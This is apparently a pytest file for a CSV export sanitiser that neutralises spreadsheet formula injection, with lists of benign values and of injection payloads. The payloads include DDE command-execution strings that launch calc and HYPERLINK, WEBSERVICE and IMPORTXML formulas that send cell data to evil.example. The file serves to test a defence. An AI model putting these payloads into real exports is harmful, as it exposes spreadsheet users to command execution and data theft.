"""What is made inert in CSV, and what is left alone."""

import pytest

from fyke.export.inert import inert, restore

LEGITIMATE = [
    "",
    "-5.00",
    "-1.5e3",
    "-1e-5",
    "+2.5E10",
    "+5 %",
    "-50%",
    "-5,00 €",
    "-$5.00",
    "+5.00 EUR",
    "-1 234,50",
    "-5 - 10 °C",
    "-5 (sale)",
    "-5.00;-6.00",
    "x; -5",
    "+49 30 1234-567",
    "+49 (0) 30 123456",
    "+1 (555) 010-0000",
    "+1-555-0100",
    "+4930123456",
    "@",
    "@handle",
    "@handle (Real Name)",
    "-",
    "--",
    "+++",
    "+/-",
    "-abc",
    "- list item",
    "- list item (new)",
    "- Buy now!",
    "+Plus! Size",
    "title\n- item",
    "a = b",
    "Great ;-)",
    "sizes; - red; - blue",
    "sizes; -5; +5 %",
    "a;b;c",
    "https://shop.example/a;b=c?d=e",
    '{"a":"=1+1"}',
    "'quoted'",
]
FORMULAS = [
    "=1+1",
    "=LOVE",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|'/c calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-SUM (A1)",
    '-a b+WEBSERVICE("https://evil.example/")',
    '+IMPORTXML(CONCAT("https://evil.example/?v=",A2),"//a")',
    "+'[https://evil.example/x.xls]S'!A1",
    "+Sheet1!A1",
    "+1+1",
    "-1-2",
    "-A1",
    "@A1",
    '+"x"&A1',
    "-+-+1+1",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\ufeff=1",
    "\x00=1",
    "＝1+1",
    "＋ＳＵＭ（１）",
    "x;=1+1;y",
    'x;"=1+1";y',
    "x\n=1+1",
    "x\t@SUM(1)",
    "\n-\rSUM(A1)",
    "x;-1&",
    'x;-1&"',
    "x;-",
    "x;-'a",
    "x\n+cmd|",
    "https://evil.example/;=cmd|'/c'!A0;",
]


@pytest.mark.parametrize("text", LEGITIMATE)
def test_left_alone(text: str) -> None:
    assert inert(text) == text
    assert restore(text) == text


@pytest.mark.parametrize("text", FORMULAS)
def test_made_inert_and_restored(text: str) -> None:
    marked = inert(text)
    assert marked.replace("'", "") == text.replace("'", "")
    assert len(marked) == len(text) + 1
    assert restore(marked) == text


@pytest.mark.parametrize("text", ["'=1", "''=1", "x;'=1", " '=1", "\t''=1"])
def test_marks_that_were_there_before(text: str) -> None:
    assert inert(text) != text
    assert restore(inert(text)) == text


def test_every_cell_of_a_line_is_marked() -> None:
    assert inert("=1;=2;-3;+A1") == "'=1;'=2;-3;'+A1"


@pytest.mark.parametrize(
    "text", [";-" * 100_000, "-" + "a" * 200_000, "+" + "1" * 200_000, "-" + " a (" * 50_000]
)
def test_long_texts_take_linear_time(text: str) -> None:
    assert restore(inert(text)) == text
